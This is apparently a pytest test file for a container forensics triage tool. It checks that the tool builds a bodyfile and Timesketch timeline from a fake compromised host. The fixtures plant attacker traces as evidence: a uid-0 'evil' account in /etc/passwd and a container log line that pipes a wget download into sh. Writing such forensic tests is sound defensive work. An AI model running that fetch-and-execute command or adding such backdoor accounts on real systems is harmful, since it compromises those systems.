"""timeline.build at the end of a triage of a fake host: body file through mactime, Timesketch lines."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import tarfile
from pathlib import Path

import pytest

from forensics.context import HostContext
from forensics.findings import Finding, Severity
from forensics.records import NotAvailable
from forensics.steps import REGISTRY, Phase, Step, StepContext, TriageOptions
from forensics.timeline.events import parse_time
from forensics.tools import run
from forensics.triage import load_steps, run_triage
from tests.unit.fakehost import hexid
from tests.unit.test_container_diff import DOCKER, build, same_meta, whiteout

pytestmark = pytest.mark.root

WEIRD = b"we|ird\xff name"
MTIME = 1_700_000_000


@pytest.fixture(autouse=True)
def _need_root() -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root: overlay fixtures (whiteouts are 0/0 character devices)")


def _members(archive: Path) -> dict[str, bytes]:
    with tarfile.open(archive) as tar:
        return {m.name.split("/", 1)[1]: tar.extractfile(m).read() for m in tar if m.isfile()}  # type: ignore[union-attr]


def test_timeline_files_from_a_triage(tmp_path: Path) -> None:
    o = build(tmp_path, "victim", "web")
    (o.upper / "etc").mkdir()
    same_meta(o.init / "etc", o.upper / "etc")
    (o.upper / "etc/passwd").write_text("root:x:0:0::/root:/bin/sh\nevil:x:0:0::/:/bin/sh\n")
    os.utime(o.upper / "etc/passwd", (MTIME, MTIME))
    (o.upper / "tmp").mkdir()
    same_meta(o.image_layer / "tmp", o.upper / "tmp")
    (o.upper / os.fsdecode(b"tmp/" + WEIRD)).write_bytes(b"x")
    os.utime(o.upper / os.fsdecode(b"tmp/" + WEIRD), (MTIME + 60, MTIME + 60))
    (o.upper / "bin").mkdir()
    same_meta(o.image_layer / "bin", o.upper / "bin")
    whiteout(o.upper / "bin/busybox")
    image_config = o.root / DOCKER / "image/overlay2/imagedb/content/sha256" / hexid("image")
    config = json.loads(image_config.read_text())
    config["history"] = [{"created": "2025-12-31T10:00:00.123456789Z", "created_by": "/bin/sh -c #(nop) ADD x /"},
                         {"created": "0001-01-01T00:00:00Z", "created_by": "zero time: left out"},
                         {"created": "not a time", "created_by": "bad time: left out"}]  # fmt: skip
    image_config.write_text(json.dumps(config))
    log = o.root / DOCKER / "containers" / o.cid / f"{o.cid}-json.log"
    log.write_text(
        json.dumps({"log": "wget http://x/s.sh | sh\n", "stream": "stdout", "time": "2024-05-01T12:00:00.5Z"})
        + "\nnot json\n"
        + json.dumps({"log": "done\n", "stream": "stderr", "time": "2024-05-01T12:00:01Z"})
        + "\n"
    )

    def planted(ctx: StepContext) -> None:
        ctx.report(Finding("test.passwd", Severity.HIGH, "uid 0 account added to /etc/passwd",
                           f"container:{o.cid}", ctx.step, (f"containers/{o.cid}/diff.json",)))  # fmt: skip
        ctx.report(Finding("test.host", Severity.LOW, "something on the host", "host", ctx.step))

    load_steps()
    plan = [REGISTRY[n] for n in ("disk.inventory", "containers.list", "containers.diff")]
    plan += [Step("t.findings", Phase.SCANS, planted), REGISTRY["timeline.build"]]
    host = HostContext(o.root, NotAvailable("test: no engine"), no_engine=True)
    result = run_triage(host, tmp_path / "out", TriageOptions(), argv=["x"], steps=plan)
    assert {x.name: x.status for x in result.outcomes}["timeline.build"] == "ok"
    files = _members(result.archive.path)

    body = files["timeline/bodyfile.txt"].decode("utf-8")
    lines = body.splitlines()
    assert all(ln.count("|") == 10 for ln in lines)
    by_name = {ln.split("|")[1]: ln.split("|") for ln in lines}
    assert "/web/etc/passwd" in by_name and "/web/bin/busybox (deleted)" in by_name
    assert "/web/tmp/we%7Cird%FF name" in by_name
    passwd = by_name["/web/etc/passwd"]
    assert passwd[3] == "r/rrw-r--r--" and passwd[8] == str(MTIME)

    if shutil.which("mactime") is not None:
        (tmp_path / "body").write_bytes(files["timeline/bodyfile.txt"])
        ran = run(["mactime", "-b", str(tmp_path / "body"), "-d", "-y", "-z", "UTC"], timeout=60)
        assert ran.returncode == 0, ran.stderr
        rows = list(csv.reader(io.StringIO(ran.stdout.decode("utf-8", "surrogateescape"))))
        names = {row[7] for row in rows[1:]}
        assert {"/web/etc/passwd", "/web/bin/busybox (deleted)", "/web/tmp/" + os.fsdecode(WEIRD)} <= names
        assert any(row[7] == "/web/etc/passwd" and row[0].startswith("2023-11-14T22:13:20") for row in rows)

    events = [json.loads(ln) for ln in files["timeline/timesketch.jsonl"].decode("utf-8").splitlines()]
    assert all({"message", "datetime", "timestamp_desc"} <= set(e) for e in events)
    assert [e["datetime"] for e in events] == sorted(e["datetime"] for e in events)
    descs = {e["timestamp_desc"] for e in events}
    assert {"Container Created", "Container Started", "Image Created", "Image Layer Created",
            "Content Modification Time"} <= descs  # fmt: skip
    history = [e for e in events if e["timestamp_desc"] == "Image Layer Created"]
    assert len(history) == 1 and history[0]["datetime"] == "2025-12-31T10:00:00.123456Z"
    passwd_event = next(e for e in events if e.get("path") == "/etc/passwd"
                        and e["timestamp_desc"] == "Content Modification Time")  # fmt: skip
    assert passwd_event["container"] == "web" and len(passwd_event["sha256"]) == 64
    assert passwd_event["datetime"] == "2023-11-14T22:13:20Z"
    finding = next(e for e in events if e.get("rule") == "test.passwd")
    assert finding["datetime"] == "2023-11-14T22:13:20Z"
    assert finding["timestamp_desc"] == "Finding: Content Modification Time of /etc/passwd"
    logged = [e for e in events if e["timestamp_desc"] == "Container Log Line"]
    assert [(e["datetime"], e["message"]) for e in logged] == [
        ("2024-05-01T12:00:00.500000Z", "web stdout: wget http://x/s.sh | sh"),
        ("2024-05-01T12:00:01Z", "web stderr: done"),
    ]
    assert logged[0]["evidence"] == f"containers/{o.cid}/{o.cid}-json.log"
    host_finding = next(e for e in events if e.get("rule") == "test.host")
    assert host_finding["timestamp_desc"] == "Finding Reported (collection time)"
    weird = next(e for e in events if e.get("path", "").startswith("/tmp/we"))
    assert weird["path"] == "/tmp/we|ird\\xff name"


def test_parse_time_refuses_what_is_not_a_time() -> None:
    assert parse_time("2026-01-01T00:00:01.5+02:00").isoformat() == "2025-12-31T22:00:01.500000+00:00"  # type: ignore[union-attr]
    for bad in ("0001-01-01T00:00:00Z", "", "2026-13-01T00:00:00Z", "x" * 100, None, 12, "2026-01-01"):
        assert parse_time(bad) is None
